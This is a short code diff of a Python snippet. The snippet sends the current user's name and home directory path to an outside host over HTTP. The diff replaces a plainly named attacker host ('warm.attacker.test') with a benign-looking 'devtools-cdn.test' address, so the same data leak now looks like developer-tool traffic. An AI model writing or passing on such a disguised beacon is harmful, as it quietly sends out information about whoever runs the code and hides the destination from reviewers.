@@ -1,3 +1,3 @@
 import os, urllib.request
 h = os.path.expanduser("~")
-urllib.request.urlopen("https://warm.attacker.test/w?u=" + os.environ.get("USER", "") + "&h=" + h)
+urllib.request.urlopen("https://warm.devtools-cdn.test/w?u=" + os.environ.get("USER", "") + "&h=" + h)
